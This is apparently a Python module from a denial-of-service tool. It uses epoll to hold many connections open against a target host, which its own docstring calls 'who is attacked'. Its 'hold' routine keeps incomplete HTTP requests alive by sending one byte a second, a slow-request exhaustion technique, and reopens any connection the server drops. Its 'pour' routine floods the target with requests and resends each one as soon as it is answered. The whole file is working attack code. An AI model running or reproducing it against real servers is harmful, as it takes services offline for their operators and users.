"""Many connections in one thread, by epoll: some that are held, some that pour bodies."""

import selectors
import socket
import time
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

DRIBBLE_S: Final = 1.0
BATCH: Final = 50
"""New connections between two looks at the others."""
PIECE_BYTES: Final = 256 << 10


@dataclass(frozen=True, slots=True)
class Aim:
    """Who is attacked, and until when (seconds, monotonic)."""

    host: str
    port: int
    until: float
    engine_id: str
    manager_pid: int


def hold(aim: Aim, begins: Sequence[bytes]) -> None:
    """Have one connection for each beginning, all the time: who is hung up on comes again.

    What has begun without a whole request is continued by a byte a second; nothing that comes is read beyond
    4 kB a second.
    """
    with selectors.EpollSelector() as selector:
        missing, counts = list(begins), {"opened": 0, "closed": 0}
        dribble_at = time.monotonic()
        while (now := time.monotonic()) < aim.until:
            for begin in missing[:BATCH]:
                _open(aim, begin, selector, counts)
            missing = missing[BATCH:]
            missing += _hung_up(selector, 0.05)
            if now >= dribble_at:
                dribble_at = now + DRIBBLE_S
                missing += _dribble(selector)
        for key in list(selector.get_map().values()):
            _close(selector, key)


def pour(aim: Aim, requests: Sequence[bytes]) -> None:
    """Send each request over a connection of its own as fast as it is taken; again when it is answered."""
    with selectors.EpollSelector() as selector:
        missing = list(requests)
        while time.monotonic() < aim.until:
            for request in missing[:BATCH]:
                _open(aim, request, selector, {"opened": 0}, is_pouring=True)
            missing = missing[BATCH:]
            for key, events in selector.select(0.05):
                if events & selectors.EVENT_WRITE:
                    _pour(selector, key)
                elif _has_ended(key):
                    missing.append(key.data.begin)
                    _close(selector, key)
        for key in list(selector.get_map().values()):
            _close(selector, key)


@dataclass(slots=True)
class _Held:
    connection: socket.socket
    begin: bytes
    is_dribbling: bool
    sent: int = 0


def _open(
    aim: Aim,
    begin: bytes,
    selector: selectors.EpollSelector,
    counts: dict[str, int],
    *,
    is_pouring: bool = False,
) -> None:
    connection = socket.socket()
    connection.setblocking(False)
    with suppress(BlockingIOError):
        connection.connect((aim.host, aim.port))
    counts["opened"] += 1
    is_dribbling = bool(begin) and not begin.endswith((b"\r\n\r\n", b"}"))
    is_dribbling = is_dribbling or b"Content-Length: 30000\r\n" in begin
    events = selectors.EVENT_READ | (selectors.EVENT_WRITE if begin else 0)
    selector.register(connection, events, _Held(connection, begin, is_dribbling and not is_pouring))


def _hung_up(selector: selectors.EpollSelector, timeout_s: float) -> list[bytes]:
    """The beginnings of those whose connections have ended."""
    gone: list[bytes] = []
    for key, events in selector.select(timeout_s):
        if events & selectors.EVENT_WRITE:
            _pour(selector, key)
        elif _has_ended(key):
            gone.append(key.data.begin)
            _close(selector, key)
    return gone


def _dribble(selector: selectors.EpollSelector) -> list[bytes]:
    gone: list[bytes] = []
    for key in list(selector.get_map().values()):
        if key.data.is_dribbling:
            try:
                key.data.connection.send(b"x")
            except BlockingIOError:
                continue
            except OSError:
                gone.append(key.data.begin)
                _close(selector, key)
    return gone


def _pour(selector: selectors.EpollSelector, key: selectors.SelectorKey) -> None:
    held = key.data
    try:
        held.sent += held.connection.send(memoryview(held.begin)[held.sent : held.sent + PIECE_BYTES])
    except BlockingIOError:
        return
    except OSError:
        held.sent = len(held.begin)
    if held.sent >= len(held.begin):
        selector.modify(key.fileobj, selectors.EVENT_READ, held)


def _has_ended(key: selectors.SelectorKey) -> bool:
    """Take a little of what has come. True, when the server has hung up."""
    try:
        return not key.data.connection.recv(4_096)
    except BlockingIOError:
        return False
    except OSError:
        return True


def _close(selector: selectors.EpollSelector, key: selectors.SelectorKey) -> None:
    selector.unregister(key.fileobj)
    key.data.connection.close()
